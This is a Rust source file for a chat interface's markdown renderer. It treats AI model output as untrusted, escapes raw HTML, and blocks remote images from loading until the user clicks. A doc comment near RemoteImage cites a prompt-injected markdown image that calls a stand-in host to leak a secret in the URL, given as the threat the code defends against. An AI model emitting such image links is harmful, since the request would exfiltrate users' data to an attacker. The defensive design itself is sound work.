//! Renders message text as markdown views. Model output is untrusted: it only ever becomes
//! text nodes and vetted attributes (links already checked by `confab_core::link`), never
//! markup. Remote images wait for a click unless their host is allow-listed.
//!
//! While an answer streams, finished blocks are rendered once each and only the open tail
//! is rendered again, once per animation frame.

use crate::chat::Chat;
use crate::lazy_module;
use crate::math::Formula;
use confab_core::highlight::{Language, TokenKind};
use confab_core::link::host_of;
use confab_core::markdown::{parse, Block, Inline, ListItem, StreamingDoc};
use leptos::prelude::*;
use wasm_bindgen::{JsCast, JsValue};

#[component]
pub fn MessageBody(text: Signal<String>, streaming: bool) -> impl IntoView {
    let naive = use_context::<Chat>().is_some_and(|c| c.with_config(|c| c.naive_render));
    if !streaming || naive {
        return view! { <div class="cf-markdown" dir="auto">{move || blocks_view(&parse(&text.get()))}</div> }
            .into_any();
    }
    let doc = StoredValue::new(StreamingDoc::new());
    let seen = StoredValue::new(0usize);
    let frozen = RwSignal::new(0usize);
    let tail_rev = RwSignal::new(0u64);
    // Feed only the new part of the text to the document, once per published frame.
    Effect::new(move |_| {
        text.with(|t| {
            let from = seen.get_value();
            if t.len() < from {
                return; // a new answer restarted the text; the row is re-created anyway
            }
            doc.update_value(|d| d.push(&t[from..]));
            seen.set_value(t.len());
        });
        let count = doc.with_value(|d| d.frozen().len());
        if count != frozen.get_untracked() {
            frozen.set(count);
        }
        tail_rev.update(|r| *r += 1);
    });
    view! {
        <div class="cf-markdown" dir="auto">
            <For each=move || 0..frozen.get() key=|i| *i let:i>
                {doc.with_value(|d| d.frozen().get(i).map(block_view))}
            </For>
            {move || {
                tail_rev.track();
                doc.with_value(|d| blocks_view(d.tail()))
            }}
        </div>
    }
    .into_any()
}

pub(crate) fn blocks_view(blocks: &[Block]) -> AnyView {
    blocks.iter().map(block_view).collect_view().into_any()
}

fn inlines_view(inlines: &[Inline]) -> AnyView {
    inlines.iter().map(inline_view).collect_view().into_any()
}

/// Nesting is capped by the parser, so this recursion is bounded.
pub(crate) fn block_view(block: &Block) -> AnyView {
    match block {
        Block::Heading { level, inlines } => {
            let content = inlines_view(inlines);
            match level {
                1 => view! { <h1>{content}</h1> }.into_any(),
                2 => view! { <h2>{content}</h2> }.into_any(),
                3 => view! { <h3>{content}</h3> }.into_any(),
                4 => view! { <h4>{content}</h4> }.into_any(),
                5 => view! { <h5>{content}</h5> }.into_any(),
                _ => view! { <h6>{content}</h6> }.into_any(),
            }
        }
        Block::Paragraph(inlines) => view! { <p>{inlines_view(inlines)}</p> }.into_any(),
        Block::CodeBlock { lang, code, .. } => {
            view! { <CodeBlock lang=lang.clone().unwrap_or_default() code=code.clone() /> }
                .into_any()
        }
        Block::Math { tex, closed: true } => {
            view! { <div class="cf-math-block"><Formula tex=tex.clone() display=true /></div> }
                .into_any()
        }
        // Still streaming: the source, until its closing `$$` arrives.
        Block::Math { tex, closed: false } => view! {
            <div class="cf-math-block">
                <span class="cf-math cf-math-display cf-math-open"><code>{tex.clone()}</code></span>
            </div>
        }
        .into_any(),
        Block::BlockQuote(blocks) => {
            view! { <blockquote>{blocks_view(blocks)}</blockquote> }.into_any()
        }
        Block::List {
            ordered,
            start,
            items,
            ..
        } => {
            let items = items.iter().map(list_item_view).collect_view();
            if *ordered {
                view! { <ol start=*start>{items}</ol> }.into_any()
            } else {
                view! { <ul>{items}</ul> }.into_any()
            }
        }
        Block::Table { aligns, head, rows } => table_view(aligns, head, rows),
        Block::Rule => view! { <hr /> }.into_any(),
        Block::Html(raw) => view! { <p class="cf-raw-html">{raw.clone()}</p> }.into_any(),
    }
}

fn list_item_view(item: &ListItem) -> AnyView {
    let task = item.task.map(|checked| {
        view! { <input type="checkbox" disabled=true checked=checked class="cf-task" /> }
    });
    view! { <li>{task}{blocks_view(&item.blocks)}</li> }.into_any()
}

fn table_view(
    aligns: &[confab_core::markdown::Align],
    head: &[Vec<Inline>],
    rows: &[Vec<Vec<Inline>>],
) -> AnyView {
    // A class, not a style attribute: a strict host `style-src` refuses inline styles.
    let align = |i: usize| {
        aligns
            .get(i)
            .and_then(|a| a.as_css())
            .map(|a| format!("cf-align-{a}"))
    };
    let head = head
        .iter()
        .enumerate()
        .map(|(i, cell)| view! { <th class=align(i)>{inlines_view(cell)}</th> })
        .collect_view();
    let rows = rows
        .iter()
        .map(|row| {
            let cells = row
                .iter()
                .enumerate()
                .map(|(i, cell)| view! { <td class=align(i)>{inlines_view(cell)}</td> })
                .collect_view();
            view! { <tr>{cells}</tr> }
        })
        .collect_view();
    view! {
        <table>
            <thead><tr>{head}</tr></thead>
            <tbody>{rows}</tbody>
        </table>
    }
    .into_any()
}

fn inline_view(inline: &Inline) -> AnyView {
    match inline {
        Inline::Text(t) => t.clone().into_any(),
        Inline::Code(c) => view! { <code>{c.clone()}</code> }.into_any(),
        Inline::Emph(c) => view! { <em>{inlines_view(c)}</em> }.into_any(),
        Inline::Strong(c) => view! { <strong>{inlines_view(c)}</strong> }.into_any(),
        Inline::Strike(c) => view! { <del>{inlines_view(c)}</del> }.into_any(),
        Inline::Link {
            href: Some(href),
            title,
            children,
        } => view! {
            <a href=href.clone() title=(!title.is_empty()).then(|| title.clone())
                target="_blank" rel="noopener noreferrer nofollow">{inlines_view(children)}</a>
        }
        .into_any(),
        Inline::Link {
            href: None,
            children,
            ..
        } => view! { <span class="cf-unsafe-link">{inlines_view(children)}</span> }.into_any(),
        Inline::Image {
            src: Some(src),
            alt,
            ..
        } => view! { <RemoteImage src=src.clone() alt=alt.clone() /> }.into_any(),
        Inline::Image { src: None, alt, .. } => {
            view! { <span class="cf-unsafe-image">{format!("[{alt}]")}</span> }.into_any()
        }
        Inline::Math { tex, display } => {
            view! { <Formula tex=tex.clone() display=*display /> }.into_any()
        }
        Inline::SoftBreak => " ".into_any(),
        Inline::HardBreak => view! { <br /> }.into_any(),
        Inline::Html(raw) => view! { <span class="cf-raw-html">{raw.clone()}</span> }.into_any(),
    }
}

/// A markdown image from the model: nothing is fetched until the user asks, unless the
/// host is allow-listed (a prompt-injected `![](https://evil/?q=secret)` makes no request).
#[component]
fn RemoteImage(src: String, alt: String) -> impl IntoView {
    let chat = expect_context::<Chat>();
    let host = host_of(&src).unwrap_or_default();
    let allowed = chat.with_config(|c| c.image_hosts.contains(&host));
    let show = RwSignal::new(allowed);
    let label = format!("{} {host}", chat.lang.t().load_image_from);
    move || {
        if show.get() {
            view! { <img src=src.clone() alt=alt.clone() referrerpolicy="no-referrer" loading="lazy" /> }
                .into_any()
        } else {
            view! {
                <button type="button" class="cf-image-placeholder" title=alt.clone()
                    on:click=move |_| show.set(true)>
                    {format!("🖼 {label}")}
                </button>
            }
            .into_any()
        }
    }
}

/// The lazily loaded highlighter (`confab-highlight`), see `lazy_module`.
const HIGHLIGHTER: &str = "highlight";

/// `code` as (class, text) tokens from the highlighter module, if it gives a whole cover.
fn highlighted(module: &JsValue, lang: &str, code: &str) -> Option<Vec<(&'static str, String)>> {
    let highlight_code = lazy_module::export(module, "highlight_code").ok()?;
    let pairs = match highlight_code.call2(&JsValue::NULL, &lang.into(), &code.into()) {
        Ok(pairs) => pairs.dyn_into::<js_sys::Uint32Array>().ok()?.to_vec(),
        Err(e) => {
            // A trap (a panic in the module): plain text from now on.
            lazy_module::mark_broken(HIGHLIGHTER, &lazy_module::describe(e));
            return None;
        }
    };
    let mut tokens = Vec::with_capacity(pairs.len() / 2);
    let mut at = 0usize;
    for pair in pairs.chunks_exact(2) {
        let kind = TokenKind::ALL.get(pair[0] as usize)?;
        let end = at.checked_add(pair[1] as usize)?;
        tokens.push((kind.as_class(), code.get(at..end)?.to_string()));
        at = end;
    }
    (at == code.len()).then_some(tokens)
}

/// A code block with its language, highlighting and a Copy button. The code shows as plain
/// monospace text until the highlighter module has loaded (fetched with the first block in
/// a known language); the colors then change nothing else, so nothing moves.
#[component]
fn CodeBlock(lang: String, code: String) -> impl IntoView {
    let chat = expect_context::<Chat>();
    let t = chat.lang.t();
    let copied = RwSignal::new(false);
    let known = Language::from_name(&lang).is_some();
    // Re-renders (the streaming tail) color in the same frame once the module is there.
    let tokens = RwSignal::new(
        lazy_module::ready(HIGHLIGHTER)
            .filter(|_| known)
            .and_then(|m| highlighted(&m, &lang, &code)),
    );
    if known && tokens.with_untracked(Option::is_none) {
        let (lang, code) = (lang.clone(), code.clone());
        leptos::task::spawn_local(async move {
            if let Ok(module) = lazy_module::load(HIGHLIGHTER).await {
                if let Some(t) = highlighted(&module, &lang, &code) {
                    // The block may be gone by now (the tail moved on).
                    let _ = tokens.try_set(Some(t));
                }
            }
        });
    }
    let plain = code.clone();
    let body = move || match tokens.get() {
        Some(tokens) => tokens
            .into_iter()
            .map(|(class, text)| view! { <span class=class>{text}</span> })
            .collect_view()
            .into_any(),
        None => plain.clone().into_any(),
    };
    let copy = move |_| crate::components::copy_with_feedback(&code, copied);
    let label = if lang.is_empty() {
        "text".to_string()
    } else {
        lang.clone()
    };
    view! {
        <div class="cf-code" part="code-block">
            <div class="cf-code-head">
                <span class="cf-code-lang">{label}</span>
                <button type="button" class="cf-action cf-code-copy" aria-label=t.copy_code on:click=copy>
                    {move || if copied.get() { t.copied } else { t.copy_code }}
                </button>
            </div>
            <pre><code data-lang=lang>{body}</code></pre>
        </div>
    }
}
